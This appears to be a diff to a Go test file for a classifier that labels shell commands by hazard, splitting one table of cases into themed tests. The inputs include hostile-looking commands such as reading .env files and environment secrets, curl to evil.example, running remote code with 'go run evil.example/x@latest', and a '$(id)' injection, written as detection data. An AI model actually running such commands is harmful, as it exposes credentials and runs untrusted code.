@@ -7,11 +7,17 @@ import (
 	"github.com/stretchr/testify/assert"
 )
 
-// TestPathsThatNeedAnAnswer runs in /srv/app, with the home /home/u.
-func TestPathsThatNeedAnAnswer(t *testing.T) {
+// checkHazards compares the hazards of commands that run in /srv/app.
+func checkHazards(t *testing.T, cases map[string]string) {
+	t.Helper()
+	for command, want := range cases {
+		assert.Equal(t, want, strings.Join(hazardsOf(t, command), "; "), command)
+	}
+}
+
+func TestAPathIsJudgedByWhereItLeads(t *testing.T) {
 	t.Parallel()
-	for command, want := range map[string]string{
-		// Where a path leads.
+	checkHazards(t, map[string]string{
 		"cat f":                      "",
 		"cat src/f ./g":              "",
 		"cat /srv/app/src/../f":      "",
@@ -35,7 +41,12 @@ func TestPathsThatNeedAnAnswer(t *testing.T) {
 		"cat /dev/null":              "",
 		"cat /dev/sda":               "reads closed /dev/sda",
 		"ls /proc/self/root/etc":     "reads closed /proc/self/root/etc",
-		// Names that say what they hold.
+	})
+}
+
+func TestNamesOfFilesWithSecretsAreHazards(t *testing.T) {
+	t.Parallel()
+	checkHazards(t, map[string]string{
 		"cat .env":                "reads secret .env",
 		"cat sub/.env.production": "reads secret sub/.env.production",
 		"cat .ENV":                "reads secret .ENV",
@@ -48,7 +59,12 @@ func TestPathsThatNeedAnAnswer(t *testing.T) {
 		"cat secrets.yaml":        "reads secret secrets.yaml",
 		"cat secret.go":           "",
 		"cat '.e*'":               "reads secret .e*",
-		// Where a path may stand in a word.
+	})
+}
+
+func TestAPathIsFoundInsideAWord(t *testing.T) {
+	t.Parallel()
+	checkHazards(t, map[string]string{
 		"frob --file=/etc/hosts":   "reads closed --file=/etc/hosts",
 		"frob -f/etc/hosts":        "reads closed -f/etc/hosts",
 		"frob k=v,x=/etc/hosts":    "reads closed k=v,x=/etc/hosts",
@@ -59,7 +75,12 @@ func TestPathsThatNeedAnAnswer(t *testing.T) {
 		"sort -k1 /etc/hosts":      "reads closed /etc/hosts",
 		"sort -- /etc/hosts":       "reads closed /etc/hosts",
 		"git show HEAD:.env":       "reads secret HEAD:.env",
-		// What is text and no path.
+	})
+}
+
+func TestTextThatLooksLikeAPathHasNoHazard(t *testing.T) {
+	t.Parallel()
+	checkHazards(t, map[string]string{
 		"grep /etc/hosts f":               "",
 		"grep -e /etc f":                  "",
 		"grep -e x /etc":                  "reads closed /etc",
@@ -75,7 +96,12 @@ func TestPathsThatNeedAnAnswer(t *testing.T) {
 		"find / -name x":                  "reads closed /",
 		"jq .a /etc/x":                    "reads closed /etc/x",
 		"curl localhost:8080/etc":         "",
-		// The machine that a URL is of.
+	})
+}
+
+func TestAURLIsJudgedByItsHost(t *testing.T) {
+	t.Parallel()
+	checkHazards(t, map[string]string{
 		"curl http://localhost:3000/x":       "",
 		"curl http://127.0.0.1/":             "",
 		"curl http://localhost.evil.example": "network URL http://localhost.evil.example",
@@ -85,7 +111,12 @@ func TestPathsThatNeedAnAnswer(t *testing.T) {
 		"curl localhost -x evil.example":     "network -x evil.example",
 		"curl ftp://localhost/":              "network URL ftp://localhost/",
 		"curl '{localhost,evil.example}'":    "network URL {localhost,evil.example}",
-		// Code of the project.
+	})
+}
+
+func TestCodeOfTheProjectIsToldFromOtherCode(t *testing.T) {
+	t.Parallel()
+	checkHazards(t, map[string]string{
 		"go run ./cmd/x --flag":        "project run ./cmd/x",
 		"go run evil.example/x@latest": "project run evil.example/x@latest; runs run evil.example/x@latest",
 		"go run ./../../tmp/x":         "project run ./../../tmp/x; runs run ./../../tmp/x",
@@ -99,7 +130,12 @@ func TestPathsThatNeedAnAnswer(t *testing.T) {
 		"docker build https://x/y":     "project build; runs context https://x/y",
 		"yarn workspace web build":     "project workspace",
 		"yarn workspace web add evil":  "project workspace; runs command add",
-		// Secrets that are not files.
+	})
+}
+
+func TestSecretsOutsideFilesAreHazards(t *testing.T) {
+	t.Parallel()
+	checkHazards(t, map[string]string{
 		"jq '.env.a' f":                "",
 		"jq '$ENV' f":                  "secrets environment $ENV",
 		"jq '.a | env' f":              "secrets environment .a | env",
@@ -111,14 +147,17 @@ func TestPathsThatNeedAnAnswer(t *testing.T) {
 		"printenv":                     "secrets environment",
 		"printenv HOME":                "",
 		"printenv HOME X":              "secrets variable X",
-		// Others.
+	})
+}
+
+func TestSignalsAndLongSleepsAreHazards(t *testing.T) {
+	t.Parallel()
+	checkHazards(t, map[string]string{
 		"pkill -f x":             "signals pkill",
 		"sleep 99999":            "lasts DURATION 99999",
 		"sleep 2":                "",
 		"sleep infinity":         "lasts DURATION infinity",
 		"env test -v 'a[$(id)]'": "runs expression a[$(id)]",
 		"test -f x":              "",
-	} {
-		assert.Equal(t, want, strings.Join(hazardsOf(t, command), "; "), command)
-	}
+	})
 }
